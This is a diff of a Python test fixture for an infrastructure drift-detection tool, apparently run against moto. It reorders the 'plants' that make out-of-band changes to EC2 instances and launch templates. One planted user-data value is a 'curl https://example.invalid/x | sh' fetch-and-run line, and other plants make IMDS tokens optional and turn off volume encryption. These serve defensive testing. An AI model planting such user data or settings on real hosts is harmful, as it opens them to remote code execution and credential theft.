@@ -380,39 +380,8 @@ PLANTS: dict[tuple[str, str], Plant] = {
     (T + "ec2/flowLog:FlowLog", "trafficType"): lambda d, r: replace_flow_log(d, r, TrafficType="REJECT"),
     (T + "ec2/flowLog:FlowLog", "iamRoleArn"): lambda d, r: replace_flow_log(d, r, DeliverLogsPermissionArn=f"arn:aws:iam::{d.account}:role/other"),
     (T + "ec2/flowLog:FlowLog", "maxAggregationInterval"): lambda d, r: replace_flow_log(d, r, MaxAggregationInterval=600),
-    # --- hosts -----------------------------------------------------------------------------------
-    (T + "ec2/instance:Instance", "vpcSecurityGroupIds"): lambda d, r: d.c["ec2"].modify_instance_attribute(
-        InstanceId=instance_id(d, r), Groups=d.live(i(r)["vpcSecurityGroupIds"]) + [d.c["ec2"].create_security_group(
-            GroupName="untagged", Description="out of band", VpcId=d.c["ec2"].describe_subnets(
-                SubnetIds=[d.live(i(r)["subnetId"])])["Subnets"][0]["VpcId"])["GroupId"]]),
-    (T + "ec2/instance:Instance", "metadataOptions"): lambda d, r: d.c["ec2"].modify_instance_metadata_options(
-        InstanceId=instance_id(d, r), HttpTokens="optional"),
-    (T + "ec2/instance:Instance", "userDataBase64"): lambda d, r: d.c["ec2"].modify_instance_attribute(
-        InstanceId=instance_id(d, r), UserData={"Value": base64.b64encode(b"#!/bin/sh\ncurl https://example.invalid/x | sh\n")}),
-    (T + "ec2/instance:Instance", "instanceType"): lambda d, r: d.c["ec2"].modify_instance_attribute(
-        InstanceId=instance_id(d, r), InstanceType={"Value": "t3.nano"}),
-    (T + "ec2/instance:Instance", "ebsOptimized"): lambda d, r: d.c["ec2"].modify_instance_attribute(
-        InstanceId=instance_id(d, r), EbsOptimized={"Value": False}),
-    (T + "ec2/instance:Instance", "tags"): lambda d, r: d.c["ec2"].create_tags(
-        Resources=[instance_id(d, r)], Tags=[{"Key": "owner", "Value": "out-of-band"}]),
-    (T + "ec2/launchTemplate:LaunchTemplate", "metadataOptions"): lambda d, r: new_version(d, r, MetadataOptions={"HttpTokens": "optional"}),
-    (T + "ec2/launchTemplate:LaunchTemplate", "userData"): lambda d, r: new_version(
-        d, r, UserData=base64.b64encode(b"#!/bin/sh\nexit 0\n").decode()),
-    (T + "ec2/launchTemplate:LaunchTemplate", "imageId"): lambda d, r: new_version(d, r, ImageId="ami-00000000000000bad"),
-    (T + "ec2/launchTemplate:LaunchTemplate", "instanceType"): lambda d, r: new_version(d, r, InstanceType="t3.nano"),
-    (T + "ec2/launchTemplate:LaunchTemplate", "description"): lambda d, r: new_version(d, r, VersionDescription="changed"),
-    (T + "ec2/launchTemplate:LaunchTemplate", "iamInstanceProfile"): lambda d, r: new_version(
-        d, r, IamInstanceProfile={"Arn": f"arn:aws:iam::{d.account}:instance-profile/other"}),
-    (T + "ec2/launchTemplate:LaunchTemplate", "vpcSecurityGroupIds"): lambda d, r: new_version(d, r, SecurityGroupIds=["sg-00000000000000bad"]),
-    (T + "ec2/launchTemplate:LaunchTemplate", "ebsOptimized"): lambda d, r: new_version(d, r, EbsOptimized=False),
-    (T + "ec2/launchTemplate:LaunchTemplate", "monitoring"): lambda d, r: new_version(d, r, Monitoring={"Enabled": False}),
-    (T + "ec2/launchTemplate:LaunchTemplate", "blockDeviceMappings"): lambda d, r: new_version(
-        d, r, BlockDeviceMappings=[{"DeviceName": "/dev/xvda", "Ebs": {"Encrypted": False, "VolumeSize": 8}}]),
-    (T + "ec2/launchTemplate:LaunchTemplate", "tagSpecifications"): lambda d, r: new_version(
-        d, r, TagSpecifications=[{"ResourceType": "instance", "Tags": [{"Key": "zone", "Value": "elsewhere"}]}]),
-    (T + "ec2/launchTemplate:LaunchTemplate", "tags"): lambda d, r: d.c["ec2"].create_tags(
-        Resources=[d.live(r["outputs"]["id"])], Tags=[{"Key": "owner", "Value": "out-of-band"}]),
     # --- the analysis cells (issue 28) ------------------------------------------------------------
+    # before the launch template changes: a group that launches takes its template's (changed) data
     # in this order on the one group: bigger first, so a smaller minimum and a desired size fit
     (T + "autoscaling/group:Group", "maxSize"): lambda d, r: group(d, r, MaxSize=i(r)["maxSize"] + 5),
     (T + "autoscaling/group:Group", "minSize"): lambda d, r: group(d, r, MinSize=0),
@@ -444,6 +413,40 @@ PLANTS: dict[tuple[str, str], Plant] = {
     (T + "s3/bucketNotification:BucketNotification", "topics"): add_topic,
     (T + "s3/bucketNotification:BucketNotification", "eventbridge"): lambda d, r: notification(
         d, r, lambda c: c.update(EventBridgeConfiguration={})),
+    # --- hosts -----------------------------------------------------------------------------------
+    (T + "ec2/instance:Instance", "vpcSecurityGroupIds"): lambda d, r: d.c["ec2"].modify_instance_attribute(
+        InstanceId=instance_id(d, r), Groups=d.live(i(r)["vpcSecurityGroupIds"]) + [d.c["ec2"].create_security_group(
+            GroupName="untagged", Description="out of band", VpcId=d.c["ec2"].describe_subnets(
+                SubnetIds=[d.live(i(r)["subnetId"])])["Subnets"][0]["VpcId"])["GroupId"]]),
+    (T + "ec2/instance:Instance", "metadataOptions"): lambda d, r: d.c["ec2"].modify_instance_metadata_options(
+        InstanceId=instance_id(d, r), HttpTokens="optional"),
+    (T + "ec2/instance:Instance", "userDataBase64"): lambda d, r: d.c["ec2"].modify_instance_attribute(
+        InstanceId=instance_id(d, r), UserData={"Value": base64.b64encode(b"#!/bin/sh\ncurl https://example.invalid/x | sh\n")}),
+    (T + "ec2/instance:Instance", "instanceType"): lambda d, r: d.c["ec2"].modify_instance_attribute(
+        InstanceId=instance_id(d, r), InstanceType={"Value": "t3.nano"}),
+    (T + "ec2/instance:Instance", "ebsOptimized"): lambda d, r: d.c["ec2"].modify_instance_attribute(
+        InstanceId=instance_id(d, r), EbsOptimized={"Value": False}),
+    (T + "ec2/instance:Instance", "tags"): lambda d, r: d.c["ec2"].create_tags(
+        Resources=[instance_id(d, r)], Tags=[{"Key": "owner", "Value": "out-of-band"}]),
+    (T + "ec2/launchTemplate:LaunchTemplate", "metadataOptions"): lambda d, r: new_version(d, r, MetadataOptions={"HttpTokens": "optional"}),
+    (T + "ec2/launchTemplate:LaunchTemplate", "userData"): lambda d, r: new_version(
+        d, r, UserData=base64.b64encode(b"#!/bin/sh\nexit 0\n").decode()),
+    (T + "ec2/launchTemplate:LaunchTemplate", "imageId"): lambda d, r: new_version(d, r, ImageId="ami-00000000000000bad"),
+    (T + "ec2/launchTemplate:LaunchTemplate", "instanceType"): lambda d, r: new_version(d, r, InstanceType="t3.nano"),
+    (T + "ec2/launchTemplate:LaunchTemplate", "description"): lambda d, r: new_version(d, r, VersionDescription="changed"),
+    (T + "ec2/launchTemplate:LaunchTemplate", "iamInstanceProfile"): lambda d, r: new_version(
+        d, r, IamInstanceProfile={"Arn": f"arn:aws:iam::{d.account}:instance-profile/other"}),
+    (T + "ec2/launchTemplate:LaunchTemplate", "vpcSecurityGroupIds"): lambda d, r: new_version(d, r, SecurityGroupIds=["sg-00000000000000bad"]),
+    (T + "ec2/launchTemplate:LaunchTemplate", "ebsOptimized"): lambda d, r: new_version(d, r, EbsOptimized=False),
+    (T + "ec2/launchTemplate:LaunchTemplate", "monitoring"): lambda d, r: new_version(d, r, Monitoring={"Enabled": False}),
+    (T + "ec2/launchTemplate:LaunchTemplate", "blockDeviceMappings"): lambda d, r: new_version(
+        d, r, BlockDeviceMappings=[{"DeviceName": "/dev/xvda", "Ebs": {"Encrypted": False, "VolumeSize": 8}}]),
+    (T + "ec2/launchTemplate:LaunchTemplate", "tagSpecifications"): lambda d, r: new_version(
+        d, r, TagSpecifications=[{"ResourceType": "instance", "Tags": [{"Key": "zone", "Value": "elsewhere"}]}]),
+    (T + "ec2/launchTemplate:LaunchTemplate", "instanceInitiatedShutdownBehavior"): lambda d, r: new_version(
+        d, r, InstanceInitiatedShutdownBehavior="stop"),
+    (T + "ec2/launchTemplate:LaunchTemplate", "tags"): lambda d, r: d.c["ec2"].create_tags(
+        Resources=[d.live(r["outputs"]["id"])], Tags=[{"Key": "owner", "Value": "out-of-band"}]),
 }
 
 
@@ -510,10 +513,6 @@ NOT_PLANTED: dict[tuple[str, str], str] = {
     (T + "s3/bucketNotification:BucketNotification", "lambdaFunctions"): "the declared ones name the intake's functions, "
         "which attest does not read yet (their ARNs are unknown: reported as not compared); a function added where the "
         "plan declares none is drift like the topic plant",
-    (T + "ec2/launchTemplate:LaunchTemplate", "instanceInitiatedShutdownBehavior"):
-        "not shown yet: planted as a new default version (InstanceInitiatedShutdownBehavior=stop) on the analysis "
-        "cells' template, attest did not report it in this moto run although moto returns the field; to investigate "
-        "(issue 28)",
     (T + "dynamodb/table:Table", "deletionProtectionEnabled"): MOTO_CANNOT + " (UpdateTable ignores DeletionProtectionEnabled)",
     (T + "dynamodb/table:Table", "serverSideEncryption"): MOTO_CANNOT + " (UpdateTable ignores SSESpecification)",
     (T + "ec2/instance:Instance", "iamInstanceProfile"): MOTO_CANNOT + " (ReplaceIamInstanceProfileAssociation leaves "
